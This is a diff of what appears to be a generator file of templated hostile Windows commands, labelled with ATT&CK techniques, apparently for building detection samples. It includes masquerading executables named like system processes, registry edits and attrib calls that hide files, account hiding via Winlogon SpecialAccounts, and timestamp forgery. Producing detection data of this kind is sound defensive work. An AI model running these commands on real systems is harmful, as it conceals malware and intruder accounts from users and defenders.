@@ -59,11 +59,11 @@ C:\Windows\«svchost|lsass|spoolsv|taskmgr|winlogon».exe
 C:\Windows\System32\«svch0st|scvhost|lsasss|expl0rer|csrsss|svchostt|winlogin|rund1132|taskmng|sevchost|conhosts|dllh0st».exe
 C:\Windows\System\«svchost|csrss|explorer».exe
 C:\Windows\Fonts\«svchost|conhost|smss».exe --config ~n~.json
-C:\Intel\«svchost|explorer|igfxTray».exe
+C:\Intel\«svchost|explorer|taskhostw».exe
 C:\PerfLogs\«WerFault|wermgr|taskhost».exe @pub@:443
 C:\$Recycle.Bin\«services|explorer|svchost».exe
 C:\Windows\SysWOW64\drivers\svchost.exe -s
-C:\Users\@user@\AppData\Local\Temp\«OneDrive|chrome|Teams|MsMpEng|MicrosoftEdgeUpdate|AcroRd32».exe
+C:\Users\@user@\AppData\Local\Temp\«MsMpEng|winlogon|lsm|smartscreen|SecurityHealthService|audiodg».exe
 "C:\Windows \System32\«winSAT|easinvoker|printui|perfmon».exe"
 copy C:\Windows\System32\cmd.exe C:\Users\Public\svchost.exe & C:\Users\Public\svchost.exe /c ~f~.bat
 move /y ~f~.exe C:\ProgramData\Microsoft\Windows\dllhost.exe
@@ -113,8 +113,6 @@ powershell $f=Get-Item '~d~~n~' -Force; $f.attributes='Hidden'
 reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced" /v Hidden /t REG_DWORD /d 2 /f & attrib +h ~f~.exe
 reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced /v ShowSuperHidden /t REG_DWORD /d 0 /f & reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced /v HideFileExt /t REG_DWORD /d 1 /f & start ~f~.exe
 mkdir "C:\$SysReset\~n~" & attrib +h +s "C:\$SysReset\~n~" & move ~f~.exe "C:\$SysReset\~n~\"
-subst z: ~d~~n~ & attrib +h ~d~~n~
-reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v @word@ /t REG_DWORD /d 0 /f
 """)
 hostile("times-of-files-forged", "Defense Evasion", "T1070.006", r"""
 powershell -c "(Get-Item ~f~.«exe|dll|aspx»).«LastWriteTime|CreationTime|LastAccessTime»='03/01/2019 09:12:00'"
